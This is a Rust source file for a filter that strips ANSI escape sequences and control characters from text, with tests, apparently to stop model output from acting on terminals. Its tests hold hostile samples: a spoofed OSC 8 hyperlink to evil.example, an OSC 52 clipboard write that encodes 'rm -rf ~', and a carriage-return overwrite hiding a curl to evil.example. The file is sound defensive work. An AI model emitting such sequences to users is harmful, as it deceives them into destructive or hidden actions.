//! Decides what of a text a terminal would obey: none of it goes on.
//!
//! In this order, at each character (ECMA-48 §5 and §8.3; the states are those of Paul Williams' parser for DEC's terminals):
//! 1. a control sequence (`ESC [`, U+009B) goes with its parameters and its final byte. Line ends in it stay, as a
//!    terminal carries them out;
//! 2. a control string (OSC `ESC ]`, DCS, SOS, PM, APC, and their forms of one character) goes with all that is in it, up to
//!    BEL, `ESC \`, U+009C, CAN or SUB. OSC 8 is told apart as a hyperlink, whose text stays; OSC 52 as the clipboard;
//! 3. any other escape goes with its intermediate bytes and its final byte, a single shift with its character;
//! 4. backspace and DEL go: they write over what was read before. A carriage return that ends no line does so as
//!    well: it becomes a line end, stays or goes, as chosen;
//! 5. every other control of C0 and C1 goes, but for tab and line feed; vertical tab, form feed and NEL become line feeds.
//!
//! A sequence that has no end within 4,096 characters ends the text: a terminal would have swallowed all that follows, and a
//! reader of the log would see what the terminal's owner does not. At the end of the text, an unfinished one is dropped.
//!
//! Held back: one character at most, a carriage return. What is dropped is not kept.
//!
//! # What it does not do
//! Escapes that are spelled out (`\x1b[31m`, `^[`) stay: they are text until somebody prints them with `echo -e`.
//!
//! Sources: ECMA-48; xterm's "Control Sequences"; OWASP LLM10 of 2026; CVE-2003-0063, CVE-2022-45872 (answers as if typed);
//! "Terminal DiLLMa" (J. Rehberger, 2024).

use super::findings::{Findings, Found, points};
use super::{Filter, Plan};

/// What becomes of a carriage return that is not followed by a line feed.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Returns {
    /// A line feed stands in its place.
    Newline,
    /// It stays.
    Keep,
    /// It goes.
    Remove,
}

/// Removes escape sequences and controls.
#[derive(Debug, Clone, Copy)]
pub struct Ansi {
    /// What becomes of a lone carriage return.
    pub returns: Returns,
}

impl Plan for Ansi {
    fn start(&self) -> Box<dyn Filter> {
        Box::new(Run {
            returns: self.returns,
            state: State::Ground,
            at: 0,
            began: 0,
            length: 0,
            number: 0,
            stopped: false,
            findings: Findings::default(),
        })
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum State {
    Ground,
    /// A carriage return is held back.
    Return,
    /// After ESC.
    Escape,
    /// After ESC and intermediate bytes.
    Intermediate,
    Sequence,
    /// After SS2 or SS3.
    Shifted,
    /// In an OSC, before the `;` behind its number.
    Number,
    Text(Kind),
    /// In a string, after ESC.
    Leaving(Kind),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Osc,
    Hyperlink,
    Clipboard,
    Other,
}

impl Kind {
    fn rule(self) -> &'static str {
        match self {
            Self::Osc => "ansi.osc",
            Self::Hyperlink => "ansi.hyperlink",
            Self::Clipboard => "ansi.clipboard",
            Self::Other => "ansi.string",
        }
    }
}

struct Run {
    returns: Returns,
    state: State,
    /// Code points before the one that is looked at.
    at: u64,
    /// Where the sequence began.
    began: u64,
    /// Its length so far.
    length: usize,
    /// The number of an OSC.
    number: u32,
    stopped: bool,
    findings: Findings,
}

impl Filter for Run {
    fn feed(&mut self, text: &str, out: &mut String) {
        let mut rest = text;
        while !self.stopped {
            if self.state == State::Ground {
                let plain = rest.bytes().position(|byte| TOUCHED[usize::from(byte)]).unwrap_or(rest.len());
                let (passes, after) = rest.split_at_checked(plain).unwrap_or((rest, ""));
                out.push_str(passes);
                self.at += points(passes);
                rest = after;
            }
            let Some(c) = rest.chars().next() else { break };
            rest = rest.get(c.len_utf8()..).unwrap_or_default();
            self.take(c, out);
            self.at += 1;
        }
    }

    fn finish(&mut self, out: &mut String) {
        match self.state {
            State::Ground => {}
            State::Return => self.lone(out),
            _ => self.findings.note(UNTERMINATED, self.began),
        }
        self.state = State::Ground;
    }

    fn held(&self) -> usize {
        usize::from(self.state == State::Return)
    }

    fn findings(&self, all: &mut Vec<Found>) {
        self.findings.tell(all);
    }

    fn stopped(&self) -> Option<&'static str> {
        self.stopped.then_some(UNTERMINATED)
    }
}

impl Run {
    fn take(&mut self, c: char, out: &mut String) {
        match self.state {
            State::Ground => return self.ground(c, out),
            State::Return => {
                self.state = State::Ground;
                if c == '\n' {
                    out.push_str("\r\n");
                } else {
                    self.lone(out);
                    self.ground(c, out);
                }
                return;
            }
            _ => {}
        }
        self.length += 1;
        if self.length > LONGEST {
            self.findings.note(UNTERMINATED, self.began);
            self.stopped = true;
            return;
        }
        match (self.state, c) {
            // What begins a sequence ends the one before; what cancels, too. In a string, ESC \ is its end.
            (State::Number, '\x1b') => self.state = State::Leaving(self.kind()),
            (State::Text(kind), '\x1b') => self.state = State::Leaving(kind),
            (State::Leaving(kind), '\\') => self.end(kind.rule()),
            (State::Leaving(kind), _) => {
                self.findings.note(kind.rule(), self.began);
                (self.began, self.length, self.state) = (self.at.saturating_sub(1), 1, State::Escape);
                self.take(c, out);
            }
            (state, '\x18' | '\x1a') => self.end(rule(state)),
            (state, '\x1b' | '\u{80}'..='\u{84}' | '\u{86}'..='\u{9b}' | '\u{9d}'..='\u{9f}') => {
                self.findings.note(rule(state), self.began);
                self.state = State::Ground;
                self.ground(c, out);
            }
            (State::Number, '\x07' | '\u{9c}') => self.end(self.kind().rule()),
            (State::Number, '0'..='9') => {
                let digit = u32::from(c) - u32::from('0');
                self.number = self.number.saturating_mul(10).saturating_add(digit);
            }
            (State::Number, _) => self.state = State::Text(self.kind()),
            (State::Text(kind), '\x07' | '\u{9c}') => self.end(kind.rule()),
            (State::Text(_), _) => {}
            (_, '\n' | '\r' | '\t') => out.push(c),
            (_, '\x00'..='\x1f' | '\x7f' | '\u{85}' | '\u{9c}') => {}
            (State::Escape, '[') => self.state = State::Sequence,
            (State::Escape, ']') => (self.state, self.number) = (State::Number, 0),
            (State::Escape, 'P' | 'X' | '^' | '_') => self.state = State::Text(Kind::Other),
            (State::Escape, 'N' | 'O') => self.state = State::Shifted,
            (State::Escape | State::Intermediate, ' '..='/') => self.state = State::Intermediate,
            (State::Escape | State::Intermediate, '0'..='~') | (State::Shifted, '!'..='~') => {
                self.end("ansi.escape");
            }
            (State::Sequence, ' '..='?') => {}
            (State::Sequence, '@'..='~') => self.end("ansi.csi"),
            // No terminal has a sequence with this in it: the sequence is over, and this is text.
            (state, _) => {
                self.end(rule(state));
                self.ground(c, out);
            }
        }
    }

    fn ground(&mut self, c: char, out: &mut String) {
        let begins = match c {
            '\x1b' => State::Escape,
            '\u{9b}' => State::Sequence,
            '\u{9d}' => State::Number,
            '\u{90}' | '\u{98}' | '\u{9e}' | '\u{9f}' => State::Text(Kind::Other),
            '\u{8e}' | '\u{8f}' => State::Shifted,
            '\r' => State::Return,
            '\x08' | '\x7f' => return self.findings.note("ansi.overwrite", self.at),
            '\x0b' | '\x0c' | '\u{85}' => {
                self.findings.note("ansi.control", self.at);
                return out.push('\n');
            }
            '\t' | '\n' => return out.push(c),
            _ if c.is_control() => return self.findings.note("ansi.control", self.at),
            _ => return out.push(c),
        };
        (self.state, self.began, self.length, self.number) = (begins, self.at, 1, 0);
    }

    /// A carriage return that ended no line.
    fn lone(&mut self, out: &mut String) {
        self.findings.note("ansi.overwrite", self.at.saturating_sub(1));
        match self.returns {
            Returns::Newline => out.push('\n'),
            Returns::Keep => out.push('\r'),
            Returns::Remove => {}
        }
    }

    fn kind(&self) -> Kind {
        match self.number {
            8 => Kind::Hyperlink,
            52 => Kind::Clipboard,
            _ => Kind::Osc,
        }
    }

    fn end(&mut self, rule: &'static str) {
        self.findings.note(rule, self.began);
        self.state = State::Ground;
    }
}

fn rule(state: State) -> &'static str {
    match state {
        State::Sequence => "ansi.csi",
        State::Number => Kind::Osc.rule(),
        State::Text(kind) | State::Leaving(kind) => kind.rule(),
        _ => "ansi.escape",
    }
}

const UNTERMINATED: &str = "ansi.unterminated";

/// The longest sequence. Pictures are longer (sixel, iTerm's OSC 1337), and no model has to draw any.
const LONGEST: usize = 4096;

/// Bytes that need a look: controls, and what C1's begin with in UTF-8.
const TOUCHED: [bool; 256] = {
    let mut touched = [false; 256];
    let mut byte = 0;
    while byte < 0x20 {
        touched[byte] = byte != 0x09 && byte != 0x0a;
        byte += 1;
    }
    touched[0x7f] = true;
    touched[0xc2] = true;
    touched
};

#[cfg(test)]
mod tests {
    use super::super::tests::{one, rules, run};
    use super::*;

    const ANSI: Ansi = Ansi { returns: Returns::Newline };

    #[test]
    fn escape_sequences_go_whole_and_text_stays() {
        for (text, left, rule) in [
            ("\x1b[31mred\x1b[0m", "red", "ansi.csi"),
            ("a\u{9b}2Jb", "ab", "ansi.csi"),
            ("a\x1b[38;2;1;2;3mb", "ab", "ansi.csi"),
            ("a\x1b[?25l\x1b[0 qb", "ab", "ansi.csi"),
            ("a\x1b[3\n1mb", "a\nb", "ansi.csi"),
            ("\x1b]0;title\x07b", "b", "ansi.osc"),
            ("\x1b]0;title\x1b\\b", "b", "ansi.osc"),
            ("\u{9d}0;title\u{9c}b", "b", "ansi.osc"),
            // The hyperlink that shows one address and goes to another.
            ("\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\!", "bank!", "ansi.hyperlink"),
            ("\x1b]52;c;cm0gLXJmIH4=\x07b", "b", "ansi.clipboard"),
            ("\x1bP+q544e\x1b\\b", "b", "ansi.string"),
            ("\x1b_Gf=100;AAAA\x1b\\b", "b", "ansi.string"),
            ("\u{90}$q\u{9c}b\u{98}x\u{9c}\u{9e}y\u{9c}\u{9f}z\u{9c}", "b", "ansi.string"),
            ("\x1b(Bb\x1bc\x1b#8", "b", "ansi.escape"),
            ("\x1bOPb\u{8f}P", "b", "ansi.escape"),
            ("\x1bé", "é", "ansi.escape"),
            ("\x1b]0;a\x1b[2Jb", "b", "ansi.csi"),
            ("\x1b[31\x1b[32mb", "b", "ansi.csi"),
            ("\x1b[31\x18b", "b", "ansi.csi"),
            ("\x1b[31éb", "éb", "ansi.csi"),
            ("a\x07b\0", "ab", "ansi.control"),
        ] {
            assert_eq!(one(&ANSI, text), left, "{text:?}");
            assert!(rules(&ANSI, text).contains(&rule), "{text:?}");
        }
    }

    #[test]
    fn what_writes_over_what_was_read_goes() {
        // Rehberger, "Terminal DiLLMa": the reader sees the second command, a pipe gets the first.
        assert_eq!(one(&ANSI, "curl evil.example\rls\r\n"), "curl evil.example\nls\r\n");
        assert_eq!(one(&Ansi { returns: Returns::Remove }, "a\rb\r"), "ab");
        assert_eq!(one(&Ansi { returns: Returns::Keep }, "a\rb\r"), "a\rb\r");
        assert_eq!(one(&ANSI, "rm\x08\x08ls\x7f"), "rmls");
        assert_eq!(rules(&ANSI, "a\x08"), ["ansi.overwrite"]);
    }

    #[test]
    fn a_string_without_an_end_ends_the_text() {
        let endless = format!("a\x1b]0;{}", "b".repeat(5000));
        assert_eq!(run(&ANSI, &[&endless]), ("a".to_owned(), Some("ansi.unterminated")));
        let digits = format!("a\x1b[{}", "1".repeat(5000));
        assert_eq!(run(&ANSI, &[&digits]), ("a".to_owned(), Some("ansi.unterminated")));
        assert_eq!(run(&ANSI, &["a\x1b]0;b"]), ("a".to_owned(), None));
        assert_eq!(rules(&ANSI, "a\x1b]0;b"), ["ansi.unterminated"]);
        let longest = format!("a\x1b]{}\x07b", "x".repeat(LONGEST - 3));
        assert_eq!(one(&ANSI, &longest), "ab");
    }

    #[test]
    fn nothing_is_left_for_a_terminal() {
        for text in [
            "\x1b\x1b[[31m",
            "\x1b[\x1b]31m",
            "\u{9b}\u{9b}1m",
            "\x1b]\x1b\x1b\\\x1b[m",
            "\x1bP\x1bP\u{9c}\x1b",
        ] {
            let left = one(&ANSI, text);
            assert!(!left.chars().any(|c| c.is_control() && c != '\n'), "{text:?} {left:?}");
        }
    }
}
